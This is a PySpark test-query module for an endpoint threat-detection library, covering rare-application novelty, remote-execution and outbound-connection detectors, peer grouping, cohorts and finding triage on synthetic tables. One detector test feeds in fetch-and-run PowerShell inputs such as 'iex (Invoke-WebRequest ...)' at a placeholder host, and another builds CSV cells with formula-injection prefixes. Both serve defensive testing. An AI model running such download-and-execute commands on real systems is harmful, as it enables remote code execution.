"""The library's queries over the driver's tables, each a composition of its operators."""

from __future__ import annotations

from dataclasses import replace

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions import scalars as S
from ..operators import cohorts, correlation, execution, novelty, peers, profiles, summaries, triage
from ..sources.observations import cohort_view, novelty_view
from .policy import DEFAULT, Policy

#: A policy for fleets too small for the default bounds (the smallest test tables).
SMALL = Policy(min_fleet_hosts=5)
#: The default with the detectors on that are off by themselves.
EXECUTION = Policy(execution_enabled=True, contextual_enabled=True).checked()
CAP = DEFAULT.maximum_contexts_per_host_day
#: The last day of ``events``, its live day, and a collection clock at that day's end.
LIVE_DAY = 19752
CLOCK = float((LIVE_DAY + 1) * 86400)


def _r(name: str, digits: int = 9) -> F.Column:
    return F.round(F.col(name), digits).alias(name)


#: Hosts of the test fleet show an application on fewer days than real ones: limits of the cohort queries.
COHORT = {"least": 10, "shown": 0.1}


# --- summaries


def host_rollup(spark: SparkSession, d: str) -> DataFrame:
    return summaries.hosts(novelty_view(spark, d)).select("host", _r("first_seen"), _r("last_seen"))


def coverage(spark: SparkSession, d: str) -> DataFrame:
    return summaries.coverage(novelty_view(spark, d))


def behavior_days(spark: SparkSession, d: str) -> DataFrame:
    return summaries.behavior_days(novelty_view(spark, d), CAP).withColumns({"first_seen": F.round("first_seen", 9), "last_seen": F.round("last_seen", 9)})


def behavior_days_capped(spark: SparkSession, d: str) -> DataFrame:
    """A cap of 2 contexts a day, to see that the contexts that start first are kept."""
    return summaries.behavior_days(novelty_view(spark, d), 2).select("host", "day", "app", "parent", "location", "n")


def distinct_estimates(spark: SparkSession, d: str) -> DataFrame:
    obs = novelty_view(spark, d)
    return summaries.estimates(summaries.registers(obs, ["event_type"], "event_id"), ["event_type"])


def sketch_merge(spark: SparkSession, d: str) -> DataFrame:
    """Daily sketches merged into one a host; equal to the sketch of all days."""
    daily = summaries.registers(novelty_view(spark, d), ["host", "day"], "app")
    merged = daily.groupBy("host", "bucket").agg(F.max("rank").alias("rank"))
    return summaries.estimates(merged, ["host"])


def network_windows(spark: SparkSession, d: str) -> DataFrame:
    found = summaries.network_windows(novelty_view(spark, d), "k")
    return found.select("host", "app", "kind", "start", "n", F.array_join(F.col("samples").cast("array<string>"), ",").alias("samples"), "distinct_estimate")


# --- references and the detector


def _days(spark: SparkSession, d: str) -> DataFrame:
    return summaries.behavior_days(novelty_view(spark, d), CAP)


def _live(spark: SparkSession, d: str) -> DataFrame:
    return novelty_view(spark, d).where(F.col("day") == LIVE_DAY)


def _gates(spark: SparkSession, d: str, policy: Policy = DEFAULT) -> DataFrame:
    return novelty.gates(_live(spark, d), _days(spark, d), LIVE_DAY, policy)


def references(spark: SparkSession, d: str) -> DataFrame:
    return novelty.references(_live(spark, d), _days(spark, d), DEFAULT)


def references_all_days(spark: SparkSession, d: str) -> DataFrame:
    """Every day of every host against the days before it."""
    days = _days(spark, d)
    return novelty.references(days, days, DEFAULT)


def app_support(spark: SparkSession, d: str) -> DataFrame:
    return novelty.support(novelty.prior(_days(spark, d), LIVE_DAY, DEFAULT), ["app"], "app_hosts")


def pattern_support(spark: SparkSession, d: str) -> DataFrame:
    return novelty.support(novelty.prior(_days(spark, d), LIVE_DAY, DEFAULT), novelty.PATTERN, "pattern_hosts")


def fleet_hosts(spark: SparkSession, d: str) -> DataFrame:
    return novelty.fleet_hosts(novelty.prior(_days(spark, d), LIVE_DAY, DEFAULT))


def local_app_days(spark: SparkSession, d: str) -> DataFrame:
    return novelty.local_app_days(novelty.prior(_days(spark, d), LIVE_DAY, DEFAULT))


def qualified_peers(spark: SparkSession, d: str) -> DataFrame:
    window = novelty.prior(summaries.behavior_days(cohort_view(spark, d), CAP), LIVE_DAY, DEFAULT)
    return novelty.qualified_peers(window, DEFAULT)


def peer_evidence(spark: SparkSession, d: str) -> DataFrame:
    obs = cohort_view(spark, d)
    days = summaries.behavior_days(obs, CAP)
    groups = obs.select("host").distinct().withColumn("grp", F.col("host").cast("int") % 6)
    return novelty.peer_evidence(days.where(F.col("day") == LIVE_DAY), novelty.prior(days, LIVE_DAY, DEFAULT), groups, DEFAULT)


def dt01_novelty(spark: SparkSession, d: str) -> DataFrame:
    found = novelty.candidates(_gates(spark, d))
    return found.select("host", *novelty.PATTERN, "category", "fleet_hosts", "app_hosts", "pattern_hosts")


def entry_funnel(spark: SparkSession, d: str) -> DataFrame:
    """The candidates of a fleet too small for the default bounds."""
    return novelty.candidates(_gates(spark, d, SMALL)).select("host", *novelty.PATTERN, "category", "fleet_hosts", "app_hosts", "pattern_hosts")


def dt02_funnel(spark: SparkSession, d: str) -> DataFrame:
    return novelty.funnel(_gates(spark, d))


def dt02_week(spark: SparkSession, d: str) -> DataFrame:
    """The funnel of the last seven days, each against the days before it, summed."""
    return novelty.funnel(novelty.gates_by_day(novelty_view(spark, d), peers.kept(_days(spark, d)), LIVE_DAY - 6, LIVE_DAY, DEFAULT))


def _findings(spark: SparkSession, d: str) -> DataFrame:
    return novelty.findings(novelty.candidates(_gates(spark, d)), _live(spark, d))


def findings(spark: SparkSession, d: str) -> DataFrame:
    return _findings(spark, d).select("host", "detector", "category", "identity", _r("first_seen"), _r("last_seen"), "occurrences", F.col("evidence.parent").alias("first_parent"))


def findings_unexpected(spark: SparkSession, d: str) -> DataFrame:
    """Findings without those that an expectation covers: here, of hosts divisible by 3, half of them revoked."""
    found = _findings(spark, d)
    number = F.col("host").cast("int")
    expected = found.where(number % 3 == 0).select("host", "detector", "identity", F.lit(CLOCK - 10).alias("created"), F.lit(CLOCK + 10).alias("expires"), (number % 2 == 0).alias("revoked"))
    return novelty.suppress(found, expected, CLOCK).select("host", "identity", "occurrences")


def dt03_remote_execution(spark: SparkSession, d: str) -> DataFrame:
    k = F.col("k")
    app = F.element_at(F.array(*map(F.lit, ["powershell.exe", "mshta.exe", "notepad.exe", "cmd.exe"])), (k % 4 + 1).cast("int"))
    command = F.element_at(F.array(*map(F.lit, ["x https://a.example/p", "iex (Invoke-WebRequest HTTP://a.example)", "start-process y", "javascript:z http://b"])), (k % 7 % 4 + 1).cast("int"))
    starts = novelty_view(spark, d).select("event_id", "host", app.alias("app"), command.alias("command"))
    return execution.remote_execution(starts, EXECUTION).select("event_id", "host", "app", "priority")


def _network(obs: DataFrame) -> DataFrame:
    """Purchases as connections, to addresses by their number: a tenth private, a tenth not begun here, some of IPv6."""
    n = F.col("event_id")
    address = F.when(n % 10 == 0, F.concat(F.lit("10.0.0."), (n % 250).cast("string"))).when(n % 10 == 5, F.concat(F.lit("2620:0:1::"), F.lower(F.hex(n % 4096)))).otherwise(F.concat(F.lit("8.8."), (n % 7).cast("string"), F.lit("."), (n % 250).cast("string")))
    return obs.where("event_type = 'purchase'").select("host", F.col("k").alias("guid"), "ts", address.alias("destination"), (n % 10 != 1).alias("initiated"))


def dt04_peers(spark: SparkSession, d: str) -> DataFrame:
    """As below, but for contexts that enough peers (all hosts of the same rest by 6) show."""
    obs = novelty_view(spark, d)
    start = F.struct("ts", "event_id", "day", *novelty.PATTERN)
    starts = obs.where("event_type = 'click'").groupBy("host", F.col("k").alias("guid")).agg(F.min(start).alias("s"))
    starts = starts.select("host", "guid", F.col("s.ts").alias("created"), "s.day", *[F.col(f"s.{c}") for c in novelty.PATTERN], (F.col("guid") % 10 == 3).alias("encoded"))
    hosts = obs.select("host").distinct().withColumn("grp", F.col("host").cast("int") % 6)
    shown = obs.select("host", *novelty.PATTERN).distinct().join(hosts, "host").groupBy("grp", *novelty.PATTERN).agg(F.count(F.lit(1)).alias("peer_seen"))
    size = hosts.groupBy("grp").agg(F.count(F.lit(1)).alias("peer_eligible"))
    peer = hosts.join(shown, "grp").join(size, "grp").select("host", *novelty.PATTERN, "peer_eligible", "peer_seen")
    return execution.outbound_from_new_context(starts, _network(obs), _days(spark, d), replace(EXECUTION, minimum_peer_hosts=3), peer).select("host", "guid", *novelty.PATTERN)


def global_ipv6(spark: SparkSession, d: str) -> DataFrame:
    """Addresses made of order keys, whole and shortened, by whether they are global."""
    key = F.col("o_orderkey")
    first = F.element_at(F.array(*map(F.lit, ["2001:db8", "2620:0", "fe80:1", "fc00:2", "2001:4", "2001:20", "2400:cb00", "64:ff9b", "0:0", "2002:5"])), (key % 10 + 1).cast("int"))
    address = F.when(key % 3 == 0, F.concat(first, F.lit("::"), F.lower(F.hex(key)))).when(key % 3 == 1, F.concat(first, F.lit(":0:0:0:0:0:"), F.lower(F.hex(key)))).otherwise(F.concat(first, F.lit(":::"), key.cast("string")))
    return spark.read.parquet(f"{d}/orders.parquet").select("o_orderkey", address.alias("address"), correlation.is_global(address).alias("is_global"))


def dt04_outbound_from_new_context(spark: SparkSession, d: str) -> DataFrame:
    """Clicks as process starts (their user and k name the process), purchases as its outbound activity."""
    obs = novelty_view(spark, d)
    start = F.struct("ts", "event_id", "day", *novelty.PATTERN)
    starts = obs.where("event_type = 'click'").groupBy("host", F.col("k").alias("guid")).agg(F.min(start).alias("s"))
    starts = starts.select("host", "guid", F.col("s.ts").alias("created"), "s.day", *[F.col(f"s.{c}") for c in novelty.PATTERN], (F.col("guid") % 10 == 3).alias("encoded"))
    network = _network(obs)
    return execution.outbound_from_new_context(starts, network, _days(spark, d), EXECUTION).select("host", "guid", *novelty.PATTERN, _r("created"), _r("network_ts"))


# --- correlation, admission, queues


def process_network(spark: SparkSession, d: str) -> DataFrame:
    """Clicks as process starts, purchases as network events of the process (user, k)."""
    obs = novelty_view(spark, d)
    creates = obs.where("event_type = 'click'").groupBy("host", "k").agg(F.min("ts").alias("created"))
    return correlation.attribute_network(creates, obs.where("event_type = 'purchase'").select("host", "k", "ts"), ["host", "k"]).select("host", "k", _r("created"), _r("network_ts"), "events")


def admission(spark: SparkSession, d: str) -> DataFrame:
    clock = CLOCK - 43200
    return correlation.admission(novelty_view(spark, d), clock, 14).groupBy("admission").agg(F.count(F.lit(1)).alias("n"))


def unseen(spark: SparkSession, d: str) -> DataFrame:
    """The second half of the events against a ledger of the first, by (host, k)."""
    rows = novelty_view(spark, d).select("event_id", "host", "k", "ts")
    half = (LIVE_DAY - 15) * 86400
    return correlation.unseen(rows.where(F.col("ts") >= half), rows.where(F.col("ts") < half).select("host", "k").distinct(), ["host", "k"]).select("event_id", "host", "k")


def _batches(spark: SparkSession, d: str) -> DataFrame:
    """Orders as queued batches."""
    key = F.col("o_orderkey")
    return spark.read.parquet(f"{d}/orders.parquet").select(
        key.alias("batch_id"), F.when(key % 3 == 0, "live").otherwise("backfill").alias("lane"), (F.col("o_custkey") % 64).alias("shard"),
        F.when(key % 97 == 0, "failed").when(key % 2 == 0, "pending").otherwise("done").alias("status"),
        (F.unix_micros(F.col("o_orderdate").cast("timestamp")) / 1e6).alias("collected_at"), (key % 400).alias("events"), (key % 7).alias("processed"), (key % 1000).alias("bytes"),
    )


def queue_metrics(spark: SparkSession, d: str) -> DataFrame:
    return correlation.queue_metrics(_batches(spark, d), CLOCK).withColumn("oldest_age", F.round("oldest_age", 3))


def next_batches(spark: SparkSession, d: str) -> DataFrame:
    return correlation.next_batches(_batches(spark, d))


def global_addresses(spark: SparkSession, d: str) -> DataFrame:
    """Addresses made of order keys, by whether they are global."""
    key = F.col("o_orderkey")
    address = F.concat_ws(".", (key % 256).cast("string"), (F.floor(key / 3) % 256).cast("string"), (F.floor(key / 5) % 256).cast("string"), (key % 300).cast("string"))
    return spark.read.parquet(f"{d}/orders.parquet").select(key.alias("o_orderkey"), address.alias("address"), correlation.is_global_ipv4(address).alias("is_global"))


# --- profiles and groups


def _profile(spark: SparkSession, d: str) -> tuple[DataFrame, int]:
    return profiles.with_bundles(cohort_view(spark, d))


def prevalence(spark: SparkSession, d: str) -> DataFrame:
    return profiles.prevalence(cohort_view(spark, d)).withColumn("prevalence", F.round("prevalence", 9))


def bundles(spark: SparkSession, d: str) -> DataFrame:
    obs = cohort_view(spark, d)
    return profiles.bundles(profiles.prevalence(obs), obs.select("host").distinct().count()).select("host", "feature", _r("prevalence"))


def document_frequency(spark: SparkSession, d: str) -> DataFrame:
    return profiles.document_frequency(profiles.prevalence(novelty_view(spark, d)))


def feature_weights(spark: SparkSession, d: str) -> DataFrame:
    found, hosts = _profile(spark, d)
    return profiles.weights(found, hosts).select("host", "channel", "feature", _r("weight"))


def technical_vectors(spark: SparkSession, d: str) -> DataFrame:
    obs = cohort_view(spark, d)
    return profiles.technical(profiles.prevalence(obs), obs.select("host").distinct().count()).select("host", "feature", _r("value"))


def _technical(spark: SparkSession, d: str) -> tuple[DataFrame, int]:
    obs = cohort_view(spark, d)
    hosts = obs.select("host").distinct().count()
    return peers.kept(profiles.technical(profiles.prevalence(obs), hosts)), hosts


def technical_pairs(spark: SparkSession, d: str) -> DataFrame:
    return peers.cosine_pairs(*_technical(spark, d)).select("a", "b", _r("cosine"))


def candidate_pairs(spark: SparkSession, d: str) -> DataFrame:
    found, hosts = _profile(spark, d)
    return peers.candidate_pairs(peers.kept(profiles.weights(found, hosts)), hosts)


def _scored(spark: SparkSession, d: str) -> DataFrame:
    found, hosts = _profile(spark, d)
    weighted = peers.kept(profiles.weights(found, hosts))
    return peers.pair_scores(peers.candidate_pairs(weighted, hosts), weighted, hosts)


def peer_pairs(spark: SparkSession, d: str) -> DataFrame:
    return _scored(spark, d).select("a", "b", _r("applications"), _r("bundles"), _r("process"), _r("network"), _r("activity"), _r("overall"), "shared_apps", "eligible")


def peer_components(spark: SparkSession, d: str) -> DataFrame:
    return peers.components(_scored(spark, d).where("eligible").select("a", "b"))


def _groups(spark: SparkSession, d: str) -> tuple[DataFrame, DataFrame, DataFrame, int]:
    """(groups, members of all components, prevalence, hosts)."""
    found, hosts = _profile(spark, d)
    found = peers.kept(found)
    weighted = peers.kept(profiles.weights(found, hosts))
    pairs = peers.pair_scores(peers.candidate_pairs(weighted, hosts), weighted, hosts).where("eligible").select("a", "b")
    members = peers.components(pairs)
    return peers.kept(peers.groups(members, weighted, found, hosts)), members, found, hosts


def peer_groups(spark: SparkSession, d: str) -> DataFrame:
    return _groups(spark, d)[0].select("component", "size", "apps", *[_r(c) for c in (*profiles.CHANNEL_WEIGHTS, "overall")])


def technical_clusters(spark: SparkSession, d: str) -> DataFrame:
    """Without the clusters that are mostly inside a recommended group."""
    groups, members, _, _ = _groups(spark, d)
    vectors, hosts = _technical(spark, d)
    clusters = peers.components(peers.cosine_pairs(vectors, hosts).select("a", "b"))
    return peers.technical_clusters(clusters, vectors, members.join(groups, "component", "left_semi"), hosts).select("component", "size", _r("cohesion"))


def technical_clusters_alone(spark: SparkSession, d: str) -> DataFrame:
    """All technical clusters, as if no group were recommended."""
    vectors, hosts = _technical(spark, d)
    clusters = peers.components(peers.cosine_pairs(vectors, hosts).select("a", "b"))
    return peers.technical_clusters(clusters, vectors, clusters.limit(0), hosts).select("component", "size", _r("cohesion"))


def _teams(spark: SparkSession, d: str) -> tuple[DataFrame, DataFrame]:
    obs = cohort_view(spark, d)
    return obs, obs.select("host", (F.col("host").cast("int") % 6).cast("string").alias("component")).distinct()


def group_explanations(spark: SparkSession, d: str) -> DataFrame:
    """What sets each team's hosts apart."""
    members = _teams(spark, d)[1]
    found, hosts = _profile(spark, d)
    return peers.explanations(members, peers.kept(found), hosts).select("component", "channel", "feature", "label", _r("score"), "launched_by", "network_kinds")


def group_catalogue(spark: SparkSession, d: str) -> DataFrame:
    """The teams as if they were recommended groups."""
    obs, members = _teams(spark, d)
    found, hosts = _profile(spark, d)
    found = peers.kept(found)
    explained = peers.explanations(members, found, hosts)
    observed = obs.groupBy("host").agg(F.count_distinct("day").alias("observed_days"))
    return peers.catalogue(members, explained, peers.group_scores(members, profiles.weights(found, hosts)), observed, "main", False)


def suppressing_groups(spark: SparkSession, d: str) -> DataFrame:
    """Suppliers as registered groups."""
    key = F.col("s_suppkey")
    registry = spark.read.parquet(f"{d}/supplier.parquet").select(
        key.alias("group_id"), F.when(key % 5 == 0, "manual").otherwise("auto").alias("origin"), (key % 2 == 0).alias("approved"), F.when(key % 3 == 0, "technical").otherwise("recommended").alias("suitability"),
        F.when(key % 7 == 0, "growing").otherwise("stable").alias("maturity"), (key % 11 == 0).alias("partial"),
    )
    return peers.may_suppress(registry).select("group_id", "suppressing")


def group_centroids(spark: SparkSession, d: str) -> DataFrame:
    obs = cohort_view(spark, d)
    members = obs.select("host", (F.col("host").cast("int") % 6).cast("string").alias("component")).distinct()
    found = profiles.prevalence(obs).withColumn("weight", F.col("prevalence"))
    return peers.centroids(members, found).select("component", "channel", "feature", _r("value"))


def observed_day_bands(spark: SparkSession, d: str) -> DataFrame:
    days = novelty_view(spark, d).groupBy("host").agg(F.count_distinct("day").alias("n"))
    band = F.when(F.col("n") <= 2, "1-2").when(F.col("n") <= 6, "3-6").when(F.col("n") <= 13, "7-13").otherwise("14+")
    return days.groupBy(band.alias("band")).agg(F.count(F.lit(1)).alias("hosts"), F.median("n").alias("median_days"))


def strata(spark: SparkSession, d: str) -> DataFrame:
    return cohorts.strata(cohorts.breadth(profiles.prevalence(cohort_view(spark, d))))


def cohort_seeds(spark: SparkSession, d: str) -> DataFrame:
    obs = cohort_view(spark, d)
    return cohorts.seeds(profiles.prevalence(obs), obs.select("host").distinct().count(), shown=COHORT["shown"])


def eligible_hosts(spark: SparkSession, d: str) -> DataFrame:
    """Hosts that may be in cohorts."""
    return cohorts.eligible(cohort_view(spark, d)).select("host").distinct()


def app_pairs(spark: SparkSession, d: str) -> DataFrame:
    obs = cohort_view(spark, d)
    return cohorts.app_pairs(profiles.prevalence(obs), obs.select("host").distinct().count(), **COHORT).select("first", "second", "members", _r("lift"), _r("utility"))


def cohort_overlaps(spark: SparkSession, d: str) -> DataFrame:
    obs = cohort_view(spark, d)
    found = profiles.prevalence(obs)
    pairs = cohorts.app_pairs(found, obs.select("host").distinct().count(), **COHORT)
    return cohorts.overlaps(cohorts.cohort_members(pairs, found, COHORT["shown"]), ["first", "second"])


def cohort_persistence(spark: SparkSession, d: str) -> DataFrame:
    """Cohorts of the first 21 of 28 days, tested on the last seven."""
    obs = cohort_view(spark, d)
    training, later = obs.where(F.col("day").between(LIVE_DAY - 28, LIVE_DAY - 8)), obs.where(F.col("day").between(LIVE_DAY - 7, LIVE_DAY - 1))
    found = profiles.prevalence(training)
    pairs = cohorts.app_pairs(found, training.select("host").distinct().count(), **COHORT)
    return cohorts.persistence(cohorts.cohort_members(pairs, found, COHORT["shown"]), training, later)


def cohort_pair_overlaps(spark: SparkSession, d: str) -> DataFrame:
    members = cohort_view(spark, d).select("host", "app").distinct()
    return cohorts.pair_overlaps(members, "app").select("a", "b", _r("overlap"))


def matched_controls(spark: SparkSession, d: str) -> DataFrame:
    """Groups by user number; a host's breadth is its applications, its depth the days it was seen."""
    obs = novelty_view(spark, d)
    breadths = obs.groupBy("host").agg(F.count_distinct("app").alias("apps"), F.count_distinct("day").alias("days"))
    members = breadths.select("host", (F.col("host").cast("int") % 6).alias("grp"))
    return cohorts.control_pools(cohorts.match_buckets(breadths), members, "grp")


def best_groups(spark: SparkSession, d: str) -> DataFrame:
    """Suppliers as hosts, part groups as groups."""
    rows = spark.read.parquet(f"{d}/lineitem.parquet").groupBy(F.col("l_suppkey").alias("host"), (F.col("l_partkey") % 40).alias("grp"))
    rows = rows.agg(F.round(F.avg("l_quantity") / 100, 6).alias("delta"), F.count(F.lit(1)).alias("pairs"), F.count_distinct("l_orderkey").alias("members"))
    return cohorts.best_groups(rows, delta=0.1, members=3, pairs=5)


# --- triage


def _table(spark: SparkSession, d: str) -> DataFrame:
    """Findings of every prior day's events, with file names: a stand-in for a store of open findings."""
    obs = novelty_view(spark, d)
    image = F.concat(F.lit("C:\\Users\\u"), "host", F.lit("\\"), "event_type", F.lit("_updater_9."), (F.col("k") % 8).cast("string"), F.lit(".0.exe"))
    return obs.select(
        "event_id", "host", F.lit(novelty.DETECTOR).alias("detector"), F.when(F.col("k") < 50, "rare_application").otherwise("rare_launch_relationship").alias("category"), "parent", "location",
        image.alias("image"), F.col("ts").alias("first_seen"), F.col("ts").alias("last_seen"), F.when(F.col("k") % 10 == 0, "high").otherwise("review").alias("priority"),
        (F.col("k") % 5).alias("app_hosts"), F.lit(150).alias("fleet_hosts"), (F.col("k") % 3).alias("pattern_hosts"),
    )


def finding_families(spark: SparkSession, d: str) -> DataFrame:
    return triage.families(_table(spark, d)).withColumns({"first_seen": F.round("first_seen", 9), "last_seen": F.round("last_seen", 9)})


def finding_families_top(spark: SparkSession, d: str) -> DataFrame:
    return triage.top_families(triage.families(_table(spark, d))).select(*triage.FAMILY_KEY, "findings", "hosts")


def variant_examples(spark: SparkSession, d: str) -> DataFrame:
    return triage.variant_examples(_table(spark, d))


def finding_search(spark: SparkSession, d: str) -> DataFrame:
    return triage.search(_table(spark, d), "SIGNUP_updater_9.3", novelty.DETECTOR, "rare_application").select("event_id", "host", "image")


def inbox(spark: SparkSession, d: str) -> DataFrame:
    """The first page: high priority first, newest first."""
    return triage.page(_table(spark, d), [(F.col("priority") != "high"), F.col("last_seen").desc(), F.col("event_id")], 30).select("event_id", "priority", _r("last_seen"))


def findings_table_page(spark: SparkSession, d: str) -> DataFrame:
    """The second page of 100 by image."""
    return triage.page(_table(spark, d), [F.lower("image"), F.col("event_id")], 100, 1).select("event_id", "image")


def finding_triggers(spark: SparkSession, d: str) -> DataFrame:
    return _table(spark, d).select("event_id", triage.trigger().alias("trigger"))


def csv_cells(spark: SparkSession, d: str) -> DataFrame:
    rows = spark.read.parquet(f"{d}/customer.parquet").select("c_custkey", F.concat(F.substring(F.lit("=+-@ab\t "), (F.col("c_custkey") % 8 + 1).cast("int"), F.lit(1)), "c_name").alias("name"))
    return rows.select("c_custkey", S.csv_safe(F.col("name")).alias("cell"))


def discover(spark: SparkSession, d: str) -> DataFrame:
    """The 100 launches seen last, over all hosts' days."""
    grouped = _days(spark, d).groupBy("host", *novelty.PATTERN).agg(F.min("first_seen").alias("first_seen"), F.max("last_seen").alias("last_seen"), F.count(F.lit(1)).alias("days"), F.sum("n").alias("n"))
    return triage.page(grouped, [F.col("last_seen").desc(), F.col("host"), *map(F.col, novelty.PATTERN)], 100).withColumns({"first_seen": F.round("first_seen", 9), "last_seen": F.round("last_seen", 9)})


def endpoint_coverage(spark: SparkSession, d: str) -> DataFrame:
    return summaries.coverage(novelty_view(spark, d)).groupBy("host", "event_type").agg(F.count(F.lit(1)).alias("days"), F.sum("n").alias("n"))


# --- scalar functions over the tables' texts


def command_flags(spark: SparkSession, d: str) -> DataFrame:
    flags = S.command_flags(F.col("html"), F.when(F.col("page_id") % 2 == 0, "mshta.exe").otherwise("cmd.exe"))
    return spark.read.parquet(f"{d}/pages.parquet").select("page_id", *[c.alias(n) for n, c in flags.items()])


def _paths(spark: SparkSession, d: str) -> DataFrame:
    parts = F.array(*map(F.lit, ["\\\\srv\\share\\", "C:\\Temp\\", "C:/Users/Ann B/Downloads/", "C:\\Users\\bob\\", "C:\\Windows\\System32\\", "C:\\Program Files\\x\\", "D:\\data\\", ""]))
    key = F.col("p_partkey")
    return spark.read.parquet(f"{d}/part.parquet").select("p_partkey", F.concat(F.element_at(parts, (key % 8 + 1).cast("int")), F.when(key % 9 != 0, F.concat(F.regexp_replace("p_name", " ", ""), (key % 40).cast("string"), F.lit(".7.EXE"))).otherwise("")).alias("image"))


def path_functions(spark: SparkSession, d: str) -> DataFrame:
    image = F.col("image")
    return _paths(spark, d).select("p_partkey", S.location(image).alias("location"), S.redact_path(image).alias("redacted"), S.basename(image).alias("basename"), S.name_shape(image).alias("shape"))


def text_functions(spark: SparkSession, d: str) -> DataFrame:
    key = F.col("c_custkey")
    quoted = F.when(key % 3 == 0, F.concat(F.lit(" '"), "c_name", F.lit("' "))).when(key % 3 == 1, F.concat(F.lit('"'), "c_name")).otherwise(F.concat(F.lit('" '), "c_name", F.lit(' "')))
    when = F.when(key % 3 == 0, (key + 1_700_000_000).cast("string")).when(key % 3 == 1, F.concat(F.lit("/Date("), (key * 1000 + 1_700_000_000_500).cast("string"), F.lit(")/"))).otherwise("no time")
    hashes = F.when(key % 2 == 0, F.concat(F.lit("MD5=00,SHA256="), F.upper(F.sha2(F.col("c_name"), 256)))).otherwise("MD5=00")
    guids = F.when(key % 2 == 0, F.concat(F.lit("{0000ABCD-0000-0000-0000-"), F.lpad(key.cast("string"), 12, "0"), F.lit("}"))).otherwise("{12}")
    return spark.read.parquet(f"{d}/customer.parquet").select("c_custkey", S.clean_text(quoted).alias("clean"), S.epoch(when).alias("epoch"), S.sha256_of(hashes).alias("sha256"), S.guid(guids).alias("guid"), S.symbol(F.concat("c_mktsegment", F.lit(" - "), "c_name")).alias("symbol"))


QUERIES = {
    f.__name__: f
    for f in (
        host_rollup, coverage, behavior_days, behavior_days_capped, distinct_estimates, sketch_merge, network_windows, references, references_all_days, app_support, pattern_support,
        fleet_hosts, local_app_days, qualified_peers, peer_evidence, dt01_novelty, dt02_funnel, dt02_week, dt03_remote_execution, dt04_outbound_from_new_context, dt04_peers, global_ipv6, findings, findings_unexpected, process_network, admission, unseen, queue_metrics, next_batches,
        global_addresses, prevalence, bundles, document_frequency, feature_weights, technical_vectors, technical_pairs, candidate_pairs, peer_pairs, peer_components, peer_groups, technical_clusters, technical_clusters_alone, group_catalogue, suppressing_groups,
        group_explanations, group_centroids, observed_day_bands, strata, cohort_seeds, eligible_hosts, app_pairs, cohort_overlaps, cohort_persistence, cohort_pair_overlaps, matched_controls, best_groups, finding_families, finding_families_top, variant_examples,
        finding_search, inbox, findings_table_page, finding_triggers, csv_cells, discover, endpoint_coverage, command_flags, path_functions, text_functions,
    )
}
